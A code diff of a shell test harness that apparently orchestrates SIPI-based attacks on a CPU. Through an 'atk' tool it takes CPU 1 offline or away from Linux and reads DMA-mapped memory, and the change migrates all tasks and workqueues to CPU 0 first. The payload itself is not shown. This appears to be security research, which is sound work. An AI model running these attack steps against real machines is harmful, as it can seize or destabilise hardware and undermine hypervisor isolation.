@@ -20,7 +20,10 @@ SIPI_SYS=/sys/devices/system/cpu/cpu$SIPI_CPU/online
 
 sipi_tgt() { echo "$SIPI_R" | grep "^target=$1 "; } # sipi_tgt I: target I's reply line
 sipi_end() { res "$(echo "$SIPI_R" | tail -n1)"; }  # the payload's end: done/no_start/stuck
-sipi_ctl_word() { kv word0 "$(atk @0 dmap_read "$C")"; }
+sipi_ctl_word() { # C filled with a fresh pattern; prints its first word
+  atk @0 fill "$C" 1 0x5197 > /dev/null
+  kv word0 "$(atk @0 dmap_read "$C")"
+}
 
 # sipi_offline_shot PFN_A PFN_B PFN_C: CPU 1 offline, the attack, CPU 1 online again.
 # Sets SIPI_R (the reply) and SIPI_BACK (yes when CPU 1 is online and runs a command).
@@ -87,10 +90,17 @@ init_vbh() {
   [ $SIPI_BACK = yes ] || fail sipi_offline_back "CPU $SIPI_CPU not usable after the attack: $(one "$SIPI_R")"
 }
 
-# sipi_running_shot PFN_A PFN_B PFN_C: CPU 1 stays lost to Linux after this. The shell
-# (and its children) must not be on CPU 1's run queue when it goes: pinned to CPU 0.
+# sipi_running_shot PFN_A PFN_B PFN_C: CPU 1 stays lost to Linux after this. Whatever
+# is on its run queue then never runs again, and a wakeup may still pick it (it looks
+# idle): the first boot lost the RCU grace-period kthread that way and hung in fork.
+# So first every task that may move (all but per-CPU kthreads) and the unbound
+# workqueues go to CPU 0, and CPU 1 gets a moment to go idle: an idle CPU is in RCU's
+# extended quiescent state, so grace periods do not wait for it afterwards.
 sipi_running_shot() {
-  taskset -p 1 $$ > /dev/null
+  local p
+  for p in /proc/[0-9]*; do taskset -p 1 "${p#/proc/}" > /dev/null 2>&1; done
+  echo 1 > /sys/devices/virtual/workqueue/cpumask 2>/dev/null
+  sleep 1
   SIPI_R=$(atk @0 sipi_running $SIPI_CPU "$@")
   CPU_LOST=$SIPI_CPU
 }
